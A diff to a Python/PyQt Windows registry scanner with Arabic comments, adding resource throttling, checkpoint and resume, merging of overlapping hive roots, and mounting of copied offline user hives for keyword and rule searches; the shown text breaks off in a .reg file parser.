         if p["type"] == "kw":
             tok = p.get("value","")
-            if exact_token_present(name or "", [tok]) or exact_token_present(text or "", [tok]):
+            if exact_token_present(name or "", [tok]):
+                return True
+            if data is not None:
+                if bytes_token_present(data, [tok]):
+                    return True
+            elif exact_token_present(text or "", [tok]):
                 return True
         elif p["type"] == "re":
             comp = p.get("compiled")
             try:
-                if comp and (comp.search(name or "") or comp.search(text or "")):
+                if comp and comp.search(name or ""):
+                    return True
+                if data is not None:
+                    if wide is None:
+                        wide = Utf16Views(data)
+                    if regex_search_bytes(p, data, wide):
+                        return True
+                elif comp and comp.search(text or ""):
                     return True
             except Exception:
                 continue
+        elif p["type"] == "art":
+            if artifact_predicate_hit(p, artifacts):
+                return True
     return False
 
 # ================ ثابت فلترة المالك ================
@@ -632,266 +1644,4033 @@ def current_user_account() -> Optional[str]:
         pass
     return user
 
-# ================ خيط الفحص ================
-class RegistryScannerThread(QThread):
-    progress = pyqtSignal(int)
-    finished = pyqtSignal(list, int)
-    error = pyqtSignal(str)
-
-    def __init__(self, crit: Criteria, rules: Optional[List[RuleSpec]] = None):
-        super().__init__()
-        self.crit = crit
-        self._stop = False
-        self.rules = rules or []
-        self._current_user_cached = current_user_account()
-
-        # بناء فهارس/مصححات مسبقة لتسريع الفحص
-        self._kw_tokens = [k.strip() for k in split_tokens(crit.keywords)] if crit.mode_keywords else []
-        # فهارس القواعد: مجموعة كلمات بسيطة وRegexes مجمّعة
-        self._rule_kw_set: Set[str] = set()
-        self._rule_regex_list: List[re.Pattern] = []
-        for spec in self.rules:
-            for p in spec.predicates:
-                if p["type"] == "kw":
-                    val = p.get("value","").strip()
-                    if val:
-                        self._rule_kw_set.add(val)
-                elif p["type"] == "re" and p.get("compiled"):
-                    self._rule_regex_list.append(p["compiled"])
-
-    def stop(self): self._stop = True
-
-    def _want_type(self, typ: int) -> bool:
-        t = self.crit.value_type.lower()
-        if t == "all": return True
-        if t == "string" and typ == winreg.REG_SZ: return True
-        if t == "expandstring" and typ == winreg.REG_EXPAND_SZ: return True
-        if t == "multistring" and typ == winreg.REG_MULTI_SZ: return True
-        if t == "dword" and typ == winreg.REG_DWORD: return True
-        if t == "qword" and typ == getattr(winreg, "REG_QWORD", 11): return True
-        if t == "binary" and typ == winreg.REG_BINARY: return True
-        return False
-
-    def _match_value_keywords(self, name: str, value_str: str, kw_tokens: List[str]) -> Optional[str]:
-        hit = exact_token_present(name or "", kw_tokens)
-        if hit: return hit
-        hit = exact_token_present(value_str or "", kw_tokens)
-        return hit
+# ================ منظّم الموارد (وضع الأثر المنخفض) ================
+class ScanGovernor:
+    """
+    يحسب مدة النوم بعد كل مفتاح: حصة المعالج (نوم يتناسب مع زمن العمل)،
+    والمعدل المستهدف (مفتاح/ثانية)، ومضاعِف تراجع يرتفع عندما يزداد حِمل النظام.
+    النوم القصير يُراكم ولا يُنفّذ إلا عند تجاوزه 5ms لتفادي كلفة الاستدعاء لكل مفتاح.
+    """
+    MIN_SLEEP = 0.005
+    MAX_SLEEP = 2.0
+    LOAD_CHECK_SEC = 1.0
+
+    def __init__(self, target_rate: int = 0, cpu_share: int = 25, load_threshold: float = 60.0):
+        self.target_rate = max(0, int(target_rate or 0))
+        self.cpu_share = min(max(int(cpu_share or 100), 5), 100) / 100.0
+        self.load_threshold = load_threshold
+        self.backoff = 1.0
+        self._win_prev: Optional[Tuple[int, int]] = None
+        self.reset()
+
+    def reset(self):
+        now = time.perf_counter()
+        self._t0 = now
+        self._keys = 0
+        self._busy_since = now
+        self._last_load_check = now
+
+    def _system_load(self) -> Optional[float]:
+        if HAVE_PSUTIL:
+            try:
+                return float(psutil.cpu_percent(interval=None))
+            except Exception:
+                pass
+        if sys.platform == "win32":
+            try:
+                import ctypes
+                from ctypes import wintypes
+                idle, kern, user = wintypes.FILETIME(), wintypes.FILETIME(), wintypes.FILETIME()
+                if not ctypes.windll.kernel32.GetSystemTimes(ctypes.byref(idle), ctypes.byref(kern), ctypes.byref(user)):
+                    return None
+                as_int = lambda ft: (ft.dwHighDateTime << 32) | ft.dwLowDateTime
+                # وقت النواة يتضمن وقت الخمول
+                total, idle_v = as_int(kern) + as_int(user), as_int(idle)
+                prev, self._win_prev = self._win_prev, (total, idle_v)
+                if prev is None or total <= prev[0]:
+                    return None
+                return 100.0 * (1.0 - (idle_v - prev[1]) / (total - prev[0]))
+            except Exception:
+                return None
+        if hasattr(os, "getloadavg"):
+            try:
+                return os.getloadavg()[0] / (os.cpu_count() or 1) * 100.0
+            except Exception:
+                return None
+        return None
 
-    def _owner_pass(self, owner: str) -> bool:
-        """
-        فلترة المالك شرط أساسي لتمرير السجل فقط. لا تُعيد سبباً.
-        """
-        mode = (self.crit.owner_filter or "all").lower()
-        if mode == "all":
-            return True
-        o = owner or ""
-        if not o or o == "N/A":
-            return False
-        if mode == "systems":
-            return o in SYSTEM_ACCOUNTS
-        if mode == "localsystem":
-            return o == "NT AUTHORITY\\SYSTEM"
-        if mode == "users":
-            cu = self._current_user_cached or ""
-            return bool(cu and (o.lower() == cu.lower() or cu.split("\\")[-1].lower() in o.lower()))
-        return True
+    def on_key(self) -> float:
+        now = time.perf_counter()
+        self._keys += 1
+        delay = 0.0
+        if self.cpu_share < 1.0:
+            delay = (now - self._busy_since) * (1.0 - self.cpu_share) / self.cpu_share
+        if self.target_rate > 0:
+            delay = max(delay, self._keys / self.target_rate - (now - self._t0))
+        if now - self._last_load_check >= self.LOAD_CHECK_SEC:
+            self._last_load_check = now
+            load = self._system_load()
+            if load is not None:
+                if load > self.load_threshold:
+                    self.backoff = min(self.backoff * 2.0, 16.0)
+                else:
+                    self.backoff = max(1.0, self.backoff / 2.0)
+        delay *= self.backoff
+        if delay < self.MIN_SLEEP:
+            return 0.0
+        delay = min(delay, self.MAX_SLEEP)
+        self._busy_since = now + delay
+        return delay
+
+def set_background_priority(enable: bool):
+    """
+    THREAD_MODE_BACKGROUND_BEGIN/END يخفض أولوية المعالج والإدخال/الإخراج للخيط الحالي (ويندوز فقط).
+    """
+    if sys.platform != "win32":
+        return
+    try:
+        import ctypes
+        k32 = ctypes.windll.kernel32
+        k32.SetThreadPriority(k32.GetCurrentThread(), 0x00010000 if enable else 0x00020000)
+    except Exception:
+        pass
 
-    def _age_is_recent(self, last_mod: Optional[datetime], days: int) -> bool:
-        if not last_mod: return False
+# ================ نقاط الحفظ (Checkpoint) للفحوص الطويلة ================
+CHECKPOINT_INTERVAL_SEC = 20
+
+def criteria_from_dict(data: Dict[str, Any]) -> Criteria:
+    known = Criteria.__dataclass_fields__
+    return Criteria(**{k: v for k, v in (data or {}).items() if k in known})
+
+def save_scan_checkpoint(state: Dict[str, Any], new_rows: List[Dict[str, Any]]):
+    """
+    النتائج تُلحق تدريجياً بملف JSONL، ثم تُكتب الحالة (الحدود المتبقية + عدد النتائج المحفوظة)
+    ذرّياً عبر ملف مؤقت واستبدال، فلا يبقى ملف حالة تالف عند انقطاع مفاجئ.
+    """
+    if new_rows:
+        with open(CHECKPOINT_RESULTS_FILE, "a", encoding="utf-8") as f:
+            for row in new_rows:
+                f.write(json.dumps(row, ensure_ascii=False, default=str) + "\n")
+    tmp = CHECKPOINT_FILE.with_suffix(".tmp")
+    tmp.write_text(json.dumps(state, ensure_ascii=False), encoding="utf-8")
+    os.replace(tmp, CHECKPOINT_FILE)
+
+def load_scan_checkpoint() -> Optional[Tuple[Dict[str, Any], int]]:
+    """
+    يُعيد (الحالة، عدد النتائج المحفوظة) بعد التحقق من أن ملف النتائج يحوي results_flushed صفاً سليماً.
+    الصفوف نفسها لا تُحمّل هنا: خيط الفحص يبثها بـ iter_checkpoint_rows إلى مخزن النتائج.
+    """
+    if not CHECKPOINT_FILE.exists():
+        return None
+    try:
+        state = json.loads(CHECKPOINT_FILE.read_text(encoding="utf-8"))
+    except Exception:
+        return None
+    limit = int(state.get("results_flushed", 0))
+    count, end, extra = 0, 0, False
+    if CHECKPOINT_RESULTS_FILE.exists():
         try:
-            return (datetime.utcnow() - last_mod) <= timedelta(days=days)
+            with open(CHECKPOINT_RESULTS_FILE, "rb") as f:
+                for line in f:
+                    if count >= limit:
+                        extra = True
+                        break
+                    if line.strip():
+                        try:
+                            json.loads(line)
+                        except Exception:
+                            extra = True
+                            break
+                        count += 1
+                    end += len(line)
         except Exception:
-            return False
-
-    def _full_key_path(self, hive_const: int, subkey: str) -> str:
-        name = None
-        for k, v in HIVE_NAME_TO_CONST.items():
-            if v == hive_const and len(k) <= 4:
-                name = k
-                break
-        if not name:
-            if hive_const == winreg.HKEY_LOCAL_MACHINE: name = "HKLM"
-            elif hive_const == winreg.HKEY_CURRENT_USER: name = "HKCU"
-            elif hive_const == winreg.HKEY_CLASSES_ROOT: name = "HKCR"
-            elif hive_const == winreg.HKEY_USERS: name = "HKU"
-            elif hive_const == winreg.HKEY_CURRENT_CONFIG: name = "HKCC"
-            else:
-                name = str(hive_const)
-        return f"{name}\\{subkey}" if subkey else name
-
-    def _fast_rule_match(self, name: str, vtext: str) -> Optional[str]:
-        """
-        تحسين: اختبار سريع عبر مجموعات مسبقة:
-        - إذا وُجدت أي كلمة من rule_kw_set كمطابقة دقيقة في name/value -> يعتبر مطابقاً ويُترك تحديد العنوان لاحقاً.
-        - Regex: تجربة على name/value.
-        نُعيد مجرد True/اسم قاعدة لاحقاً عند المرور على specs لتحديد العنوان الأول المطابق.
-        """
-        # كلمات بسيطة
-        if self._rule_kw_set:
-            if exact_token_present(name, list(self._rule_kw_set)) or exact_token_present(vtext, list(self._rule_kw_set)):
-                return "__kw__"
-        # Regex
-        for comp in self._rule_regex_list:
-            try:
-                if comp.search(name) or comp.search(vtext):
-                    return "__re__"
-            except Exception:
-                continue
+            count = 0
+    if count < limit:
+        # نتائج ناقصة أو تالفة: الحدود المحفوظة تجاوزت مفاتيحها، فالاستئناف سيُسقطها بصمت
+        clear_scan_checkpoint()
         return None
-
-    def _scan_key_recursive(self, hive_const: int, subkey: str,
-                            kw_tokens: List[str],
-                            use_age: bool, days: int,
-                            out: List[Dict[str, Any]], counter: List[int]):
-        if self._stop: return
-        access = winreg.KEY_READ
-        tried_flags = [access]
-        if hasattr(winreg, "KEY_WOW64_64KEY"):
-            tried_flags.append(access | winreg.KEY_WOW64_64KEY)
-            tried_flags.append(access | winreg.KEY_WOW64_32KEY)
-
-        opened = None
-        last_write = None
-        state = tr("state_denied")
-        for flg in tried_flags:
-            try:
-                opened = winreg.OpenKey(hive_const, subkey, 0, flg)
-                info = winreg.QueryInfoKey(opened)
-                last_write = filetime_to_datetime(info[2]) if len(info) >= 3 else None
-                state = tr("state_ok")
-                break
-            except Exception:
-                opened = None
+    # انقطاع بين إلحاق النتائج وكتابة الحالة: نقتطع الزائد كي يبقى الملف متوافقاً مع الحالة
+    if extra:
+        try:
+            os.truncate(CHECKPOINT_RESULTS_FILE, end)
+        except Exception:
+            pass
+    return state, count
+
+def iter_checkpoint_rows(limit: int):
+    """يبث أول limit صفاً من ملف نتائج نقطة الحفظ (بعد تحقق load_scan_checkpoint منها)."""
+    if limit <= 0 or not CHECKPOINT_RESULTS_FILE.exists():
+        return
+    with open(CHECKPOINT_RESULTS_FILE, "r", encoding="utf-8") as f:
+        for line in f:
+            line = line.strip()
+            if not line:
                 continue
+            yield json.loads(line)
+            limit -= 1
+            if limit <= 0:
+                return
 
-        if opened is None:
-            counter[0] += 1
-            if counter[0] % 50 == 0:
-                self.progress.emit(counter[0])
-            return
+def clear_scan_checkpoint():
+    for p in (CHECKPOINT_FILE, CHECKPOINT_RESULTS_FILE):
+        try:
+            p.unlink()
+        except Exception:
+            pass
 
-        owner = try_get_owner(hive_const, subkey)
-        if not self._owner_pass(owner):
-            # فلترة المالك شرط أساسي: نتجاهل المفتاح كاملاً
-            try:
-                winreg.CloseKey(opened)
-            except Exception:
-                pass
-            return
+# ================ مُخطِّط الفحص: دمج الجذور المتداخلة والمتكافئة ================
+HKCC_TARGET = "SYSTEM\\CurrentControlSet\\Hardware Profiles\\Current"
 
-        try:
-            idx = 0
-            while True:
-                if self._stop: break
-                try:
-                    vname, vdata, vtype = winreg.EnumValue(opened, idx)
-                except OSError:
-                    break
-                except Exception:
-                    break
-                idx += 1
-                counter[0] += 1
-                if counter[0] % 200 == 0:
-                    self.progress.emit(counter[0])
+@dataclass
+class ScanUnit:
+    hive: int
+    subkey: str
+    source: str = ""   # الجذر كما أدخله المستخدم
+    estimate: int = 0
+    user: str = ""     # صاحب خلية المستخدم عند توزيع HKU على المستخدمين
 
-                if not self._want_type(vtype):
-                    continue
+    @property
+    def label(self) -> str:
+        return format_key_path(self.hive, self.subkey)
 
-                vtext = reg_value_to_text(vdata, vtype)
-                reasons = []
-                matched_kw = ""
-                matched_rule = ""
-                matched_any = False
-
-                # أوضاع الفحص
-                if self.crit.mode_keywords and kw_tokens:
-                    hit_kw = self._match_value_keywords(vname or "", vtext, kw_tokens)
-                    if hit_kw:
-                        matched_kw = hit_kw
-                        reasons.append(tr("reason_kw"))
-                        matched_any = True
+@dataclass
+class ScanPlan:
+    units: List[ScanUnit] = field(default_factory=list)
+    dropped: List[Tuple[str, str]] = field(default_factory=list)  # (الجذر، الجذر الذي يغطيه أو "")
 
-                if self.crit.mode_rules and self.rules:
-                    # اختبار سريع أولاً
-                    fast = self._fast_rule_match(vname or "", vtext)
-                    if fast:
-                        # تحديد أول RuleSpec مطابق لإرجاع عنوان القاعدة
-                        for spec in self.rules:
-                            try:
-                                if evaluate_rule_predicates(vname or "", vtext, spec):
-                                    matched_rule = spec.title
-                                    reasons.append(f"{tr('reason_rule')}: {spec.title}")
-                                    matched_any = True
-                                    break
-                            except Exception:
-                                continue
+    def to_state(self) -> List[List[Any]]:
+        return [[u.hive, u.subkey, u.source, u.user] for u in self.units]
 
-                # اقتصار الأسباب على كلمة/قاعدة فقط: لا نضيف النوع/العمر/المالك كأسباب
-                # الفلاتر الإضافية (العمر) لا تُؤثر على الإدراج إلا إذا كان display_mode==matched
-                include = True
-                filters_active = any([
-                    (self.crit.mode_keywords and kw_tokens),
-                    (self.crit.mode_rules and self.rules)
-                ])
-                if self.crit.display_mode == "matched" and filters_active:
-                    include = matched_any
-
-                if include:
-                    out.append({
-                        "key": self._full_key_path(hive_const, subkey),
-                        "value_name": vname,
-                        "value_str": vtext,
-                        "matched_kw": matched_kw,
-                        "value_type": reg_type_name(vtype),
-                        "last_mod": last_write.strftime("%Y-%m-%d %H:%M:%S") if last_write else "N/A",
-                        "owner": owner,
-                        "state": state,
-                        "matched_rule": matched_rule,
-                        "reasons": reasons,
-                        "matched_any": matched_any,
-                        "hive_const": hive_const,
-                        "subkey": subkey,
-                        "value_type_raw": vtype,
-                    })
+    @staticmethod
+    def from_state(rows: List[List[Any]]) -> "ScanPlan":
+        return ScanPlan(units=[ScanUnit(int(r[0]), str(r[1]), str(r[2]) if len(r) > 2 else "",
+                                        user=str(r[3]) if len(r) > 3 else "") for r in rows or []])
+
+    def is_trivial(self, raw_keys: List[str]) -> bool:
+        return not self.dropped and len(self.units) <= 1 and len([k for k in raw_keys if str(k).strip()]) <= 1
+
+def current_user_sid() -> Optional[str]:
+    if HAVE_PYWIN32:
+        try:
+            tok = win32security.OpenProcessToken(win32api.GetCurrentProcess(), win32con.TOKEN_QUERY)
+            sid = win32security.GetTokenInformation(tok, win32security.TokenUser)[0]
+            return win32security.ConvertSidToStringSid(sid)
         except Exception:
             pass
-
+    # بدون pywin32: مقارنة "Volatile Environment" للمستخدم الحالي مع كل SID محمّل تحت HKU
+    def profile_of(hive, sub):
         try:
-            sub_count = winreg.QueryInfoKey(opened)[0]
+            with winreg.OpenKey(hive, sub, 0, winreg.KEY_READ) as k:
+                return str(winreg.QueryValueEx(k, "USERPROFILE")[0]).lower()
         except Exception:
-            sub_count = 0
+            return None
+    mine = profile_of(winreg.HKEY_CURRENT_USER, "Volatile Environment")
+    if not mine:
+        return None
+    try:
+        with winreg.OpenKey(winreg.HKEY_USERS, "", 0, winreg.KEY_READ) as hk:
+            for i in range(winreg.QueryInfoKey(hk)[0]):
+                sid = winreg.EnumKey(hk, i)
+                if not sid.endswith("_Classes") and profile_of(winreg.HKEY_USERS, f"{sid}\\Volatile Environment") == mine:
+                    return sid
+    except Exception:
+        pass
+    return None
 
-        for i in range(sub_count):
-            if self._stop: break
-            try:
-                name = winreg.EnumKey(opened, i)
-            except Exception:
-                continue
-            child = f"{subkey}\\{name}" if subkey else name
+def _join_path(a: str, b: str) -> str:
+    return f"{a}\\{b}" if a and b else (a or b)
+
+def _path_parts(subkey: str) -> List[str]:
+    return [p.lower() for p in subkey.split("\\") if p]
+
+def canonical_forms(hive: int, subkey: str, user_sid: Optional[str]) -> List[Tuple[int, str]]:
+    """
+    المسارات الفعلية التي يغطيها الجذر بعد فك الأسماء البديلة:
+    HKCU = HKU\\<SID>، HKCC = HKLM\\...\\Hardware Profiles\\Current،
+    وHKCR عرض مدموج لـ HKLM\\SOFTWARE\\Classes وHKCU\\Software\\Classes.
+    """
+    def cu(path: str) -> List[Tuple[int, str]]:
+        return [(winreg.HKEY_USERS, _join_path(user_sid, path))] if user_sid else [(winreg.HKEY_CURRENT_USER, path)]
+    if hive == winreg.HKEY_CURRENT_USER:
+        return cu(subkey)
+    if hive == winreg.HKEY_CURRENT_CONFIG:
+        return [(winreg.HKEY_LOCAL_MACHINE, _join_path(HKCC_TARGET, subkey))]
+    if hive == winreg.HKEY_CLASSES_ROOT:
+        return [(winreg.HKEY_LOCAL_MACHINE, _join_path("SOFTWARE\\Classes", subkey))] + cu(_join_path("Software\\Classes", subkey))
+    if hive == winreg.HKEY_USERS and user_sid:
+        parts = subkey.split("\\", 1)
+        if parts[0].lower() == f"{user_sid}_classes".lower():
+            return [(winreg.HKEY_USERS, _join_path(_join_path(user_sid, "Software\\Classes"), parts[1] if len(parts) > 1 else ""))]
+    return [(hive, subkey)]
+
+class PathPrefixTrie:
+    """شجرة بادئات لمكوّنات المسار (غير حساسة لحالة الأحرف)؛ المفتاح None يعلّم نهاية جذر ومالكه."""
+    def __init__(self):
+        self.root: Dict[Any, Any] = {}
+
+    def insert(self, hive: int, subkey: str, owner: Any):
+        node = self.root.setdefault(hive, {})
+        for part in _path_parts(subkey):
+            node = node.setdefault(part, {})
+        node.setdefault(None, owner)
+
+    def covering(self, hive: int, subkey: str) -> Optional[Any]:
+        node = self.root.get(hive)
+        if node is None:
+            return None
+        if None in node:
+            return node[None]
+        for part in _path_parts(subkey):
+            node = node.get(part)
+            if node is None:
+                return None
+            if None in node:
+                return node[None]
+        return None
+
+def estimate_key_size(hive: int, subkey: str, sample: int = 64) -> int:
+    """تقدير سريع لحجم الشجرة: قيم/مفاتيح الجذر + عيّنة من الأبناء المباشرين مُستقرأة على الباقي."""
+    try:
+        k = winreg.OpenKey(hive, subkey, 0, winreg.KEY_READ)
+    except Exception:
+        return 0
+    try:
+        nsub, nval = winreg.QueryInfoKey(k)[:2]
+        seen, acc = 0, 0
+        for i in range(min(nsub, sample)):
             try:
-                self._scan_key_recursive(hive_const, child, kw_tokens, use_age, days, out, counter)
-            except RecursionError:
-                continue
+                with winreg.OpenKey(k, winreg.EnumKey(k, i), 0, winreg.KEY_READ) as ch:
+                    info = winreg.QueryInfoKey(ch)
+                    acc += 1 + info[0] * 8 + info[1]
+                    seen += 1
             except Exception:
                 continue
-
+        return nval + (acc * nsub // seen if seen else nsub)
+    except Exception:
+        return 0
+    finally:
         try:
-            winreg.CloseKey(opened)
+            winreg.CloseKey(k)
         except Exception:
             pass
 
-    def run(self):
-        try:
-            crit = self.crit
+def build_scan_plan(raw_keys: List[str], estimate: bool = True) -> ScanPlan:
+    """
+    يطبّع الجذور عبر parse_registry_path ويفك الأسماء البديلة، ثم يُدخل كل مسار فعلي في شجرة البادئات
+    من الأقل عمقاً للأعمق: المسار المغطّى بجذر سابق يُحذف. الجذر الذي بقيت كل مساراته يُفحص باسمه
+    الأصلي، والمغطّى جزئياً (مثل HKCR) يُستبدل بالمسارات المتبقية فقط. الترتيب النهائي تصاعدي حسب
+    الحجم التقديري لتظهر نتائج الجذور الصغيرة مبكراً.
+    """
+    plan = ScanPlan()
+    parsed = []
+    for order, raw in enumerate(raw_keys):
+        if not raw or not str(raw).strip():
+            continue
+        hive, sub = parse_registry_path(str(raw))
+        if hive is None:
+            plan.dropped.append((str(raw), ""))
+            continue
+        parsed.append((order, str(raw), hive, sub.strip("\\")))
+    needs_sid = any(h in (winreg.HKEY_CURRENT_USER, winreg.HKEY_CLASSES_ROOT, winreg.HKEY_USERS) for _, _, h, _ in parsed)
+    user_sid = current_user_sid() if needs_sid else None
+
+    forms = []
+    for order, raw, hive, sub in parsed:
+        for fi, (fh, fs) in enumerate(canonical_forms(hive, sub, user_sid)):
+            forms.append((len(_path_parts(fs)), order, fi, fh, fs))
+    forms.sort(key=lambda f: (f[0], f[1], f[2]))
+    trie = PathPrefixTrie()
+    kept: Dict[int, List[Tuple[int, str]]] = {}
+    covered_by: Dict[int, str] = {}
+    raw_of = {order: raw for order, raw, _, _ in parsed}
+    for _, order, _, fh, fs in forms:
+        owner = trie.covering(fh, fs)
+        if owner is not None:
+            covered_by.setdefault(order, raw_of[owner])
+            continue
+        trie.insert(fh, fs, order)
+        kept.setdefault(order, []).append((fh, fs))
+
+    for order, raw, hive, sub in parsed:
+        mine = kept.get(order, [])
+        total = len(canonical_forms(hive, sub, user_sid))
+        if not mine:
+            plan.dropped.append((raw, covered_by.get(order, "")))
+        elif len(mine) == total:
+            plan.units.append(ScanUnit(hive, sub, source=raw))
+        else:
+            plan.units.extend(ScanUnit(h, s2, source=raw) for h, s2 in mine)
+    if estimate:
+        for u in plan.units:
+            u.estimate = estimate_key_size(u.hive, u.subkey)
+        plan.units.sort(key=lambda u: u.estimate)
+    return plan
+
+# ================ خلايا المستخدمين: توزيع HKU والخلايا غير المحمّلة ================
+USER_HIVE_WORKERS = 4             # خلايا مستخدمين تُفحص بالتوازي (استدعاءات winreg تحرر الـ GIL)
+OFFLINE_HIVE_PREFIX = "NTRE_"     # اسم التحميل تحت HKU: NTRE_<SID> وNTRE_<SID>_Classes
+OFFLINE_HIVE_DIR = APP_DIR / "offline"
+PROFILE_LIST_KEY = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList"
+# (مسار الملف نسبةً لمجلد الملف الشخصي، لاحقة اسم التحميل)
+OFFLINE_HIVE_FILES = (
+    ("NTUSER.DAT", ""),
+    (os.path.join("AppData", "Local", "Microsoft", "Windows", "UsrClass.dat"), "_Classes"),
+)
+
+def user_hive_sid(hive: int, subkey: str) -> Optional[str]:
+    """SID صاحب المسار تحت HKU، بما فيه <SID>_Classes والخلايا المحمّلة باسم NTRE_<SID>."""
+    if hive != winreg.HKEY_USERS or not subkey:
+        return None
+    top = subkey.split("\\", 1)[0]
+    if top.startswith(OFFLINE_HIVE_PREFIX):
+        top = top[len(OFFLINE_HIVE_PREFIX):]
+    if top.lower().endswith("_classes"):
+        top = top[:-len("_classes")]
+    return top
+
+def list_profiles() -> Dict[str, str]:
+    """SID -> مجلد الملف الشخصي كما في ProfileList (يشمل المستخدمين غير المسجّلين حالياً)."""
+    out: Dict[str, str] = {}
+    try:
+        with winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, PROFILE_LIST_KEY, 0, winreg.KEY_READ) as k:
+            for i in range(winreg.QueryInfoKey(k)[0]):
+                sid = winreg.EnumKey(k, i)
+                try:
+                    with winreg.OpenKey(k, sid, 0, winreg.KEY_READ) as pk:
+                        out[sid] = os.path.expandvars(str(winreg.QueryValueEx(pk, "ProfileImagePath")[0]))
+                except Exception:
+                    continue
+    except Exception:
+        pass
+    return out
+
+def loaded_user_hives() -> List[str]:
+    names: List[str] = []
+    try:
+        with winreg.OpenKey(winreg.HKEY_USERS, "", 0, winreg.KEY_READ) as k:
+            for i in range(winreg.QueryInfoKey(k)[0]):
+                names.append(winreg.EnumKey(k, i))
+    except Exception:
+        pass
+    return names
+
+@lru_cache(maxsize=256)
+def account_for_sid(sid: str) -> str:
+    if HAVE_PYWIN32:
+        try:
+            name, domain, _ = win32security.LookupAccountSid(None, win32security.ConvertStringSidToSid(sid))
+            return f"{domain}\\{name}" if domain else name
+        except Exception:
+            pass
+    # بدون pywin32 (أو حساب محذوف): اسم مجلد الملف الشخصي أفضل من SID خام
+    prof = list_profiles().get(sid)
+    return re.split(r"[\\/]", prof.rstrip("\\/"))[-1] if prof else sid
+
+def fan_out_user_hives(plan: ScanPlan) -> ScanPlan:
+    """
+    يستبدل جذر HKU الكامل بوحدة لكل خلية محمّلة تحته موسومة بصاحبها، فتُفحص كل خلية كوحدة مستقلة
+    (وبالتوازي). الوحدات تبقى في موضع جذر HKU من الخطة.
+    """
+    units: List[ScanUnit] = []
+    for u in plan.units:
+        if u.hive != winreg.HKEY_USERS or u.subkey or u.user:
+            units.append(u)
+            continue
+        names = loaded_user_hives()
+        if not names:
+            units.append(u)
+            continue
+        units.extend(ScanUnit(winreg.HKEY_USERS, n, source=u.source, user=account_for_sid(user_hive_sid(winreg.HKEY_USERS, n)))
+                     for n in names)
+    return ScanPlan(units=units, dropped=plan.dropped)
+
+def enable_hive_privileges() -> bool:
+    """RegLoadKey/RegUnLoadKey يتطلبان SeBackupPrivilege وSeRestorePrivilege مفعّلين (مسؤول)."""
+    if not HAVE_PYWIN32:
+        return False
+    try:
+        tok = win32security.OpenProcessToken(win32api.GetCurrentProcess(),
+                                             win32con.TOKEN_ADJUST_PRIVILEGES | win32con.TOKEN_QUERY)
+        privs = [(win32security.LookupPrivilegeValue(None, n), win32con.SE_PRIVILEGE_ENABLED)
+                 for n in ("SeBackupPrivilege", "SeRestorePrivilege")]
+        win32security.AdjustTokenPrivileges(tok, False, privs)
+        return win32api.GetLastError() == 0
+    except Exception:
+        return False
+
+class OfflineUserHives:
+    """
+    يحمّل خلايا المستخدمين غير المسجّلين تحت HKU\\NTRE_<SID>[_Classes] عبر RegLoadKey، على نسخة في
+    OFFLINE_HIVE_DIR (مع .LOG1/.LOG2) كي لا يُعدَّل ملف المستخدم الأصلي ولا يُقفل، ثم يفرّغها ويحذف النسخ.
+    تحميلات سابقة بقيت بعد انقطاع التطبيق تُتبنّى لتُفرّغ مع هذه.
+    """
+
+    def __init__(self):
+        self.mounted: List[str] = []
+        self.failed = 0
+
+    def mount(self) -> List[str]:
+        if not HAVE_PYWIN32 or not enable_hive_privileges():
+            return []
+        loaded = {n.lower() for n in loaded_user_hives()}
+        self.mounted = [n for n in loaded_user_hives() if n.startswith(OFFLINE_HIVE_PREFIX)]
+        for sid, prof in list_profiles().items():
+            if sid.lower() in loaded:
+                continue
+            for rel, suffix in OFFLINE_HIVE_FILES:
+                name = f"{OFFLINE_HIVE_PREFIX}{sid}{suffix}"
+                src = Path(prof) / rel
+                if name.lower() in loaded or not src.is_file():
+                    continue
+                dst_dir = OFFLINE_HIVE_DIR / f"{sid}{suffix}"
+                try:
+                    dst_dir.mkdir(parents=True, exist_ok=True)
+                    for ext in ("", ".LOG1", ".LOG2"):
+                        f = src.with_name(src.name + ext)
+                        if f.is_file():
+                            shutil.copy2(f, dst_dir / f.name)
+                    win32api.RegLoadKey(win32con.HKEY_USERS, name, str(dst_dir / src.name))
+                    self.mounted.append(name)
+                except Exception:
+                    self.failed += 1
+                    shutil.rmtree(dst_dir, ignore_errors=True)
+        return list(self.mounted)
+
+    def unmount(self):
+        # يُستدعى بعد إغلاق كل مقابض الفحص: RegUnLoadKey يفشل ما دام مفتاح من الخلية مفتوحاً
+        for name in self.mounted:
+            try:
+                win32api.RegUnLoadKey(win32con.HKEY_USERS, name)
+            except Exception:
+                pass
+        self.mounted = []
+        shutil.rmtree(OFFLINE_HIVE_DIR, ignore_errors=True)
+
+# ================ ملفات السجل النصية: تصدير regedit وخلايا Wine ================
+REG_FILE_HEADERS = ("windows registry editor version 5.00", "regedit4")
+WINE_REG_HEADER = "wine registry version 2"
+REG_FILE_BUFFER = 1 << 20   # قراءة بالبث بمخزن 1MB: الذاكرة ثابتة مهما كبر الملف
+_REG_HEX_TYPE = re.compile(r"hex(?:\(([0-9a-fA-F]+)\))?:")
+_REG_STR_TYPE = re.compile(r"str\(([0-9a-fA-F]+)\):")
+_REG_VALUE_LINE = re.compile(r'(?:@|"((?:[^"\\]|\\.)*)")=', re.S)
+_REG_SZ_LINE = re.compile(r'(?:@|"((?:[^"\\]|\\.)*)")="((?:[^"\\]|\\.)*)"\s*$', re.S)
+_REG_STRING = re.compile(r'"((?:[^"\\]|\\.)*)"\s*$', re.S)
+_REG_QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"', re.S)
+_REG_ESC_ANY = re.compile(r"\\(x[0-9a-fA-F]{1,4}|[0-7]{1,3}|.)", re.S)
+_REG_ESCAPES = {"n": "\n", "r": "\r", "t": "\t", "a": "\a", "b": "\b", "e": "\x1b", "f": "\f", "v": "\v"}
+# جذر ملفات Wine حسب سطر ";; All keys relative to ..."
+WINE_REG_ROOTS = {"machine": (winreg.HKEY_LOCAL_MACHINE, ""), "user": (winreg.HKEY_CURRENT_USER, "")}
+
+def open_reg_text(path: str):
+    """تصدير regedit بصيغة 5.00 يكون UTF-16 بـ BOM؛ REGEDIT4 بترميز ANSI؛ وملفات Wine UTF-8."""
+    with open(path, "rb") as f:
+        head = f.read(8)
+    if head.startswith((b"\xff\xfe", b"\xfe\xff")):
+        enc = "utf-16"
+    elif head.upper().startswith(b"REGEDIT4"):
+        enc = "mbcs" if os.name == "nt" else "cp1252"
+    else:
+        enc = "utf-8-sig"
+    return open(path, "r", encoding=enc, errors="replace", buffering=REG_FILE_BUFFER)
+
+def _reg_esc(m: "re.Match") -> str:
+    e = m.group(1)
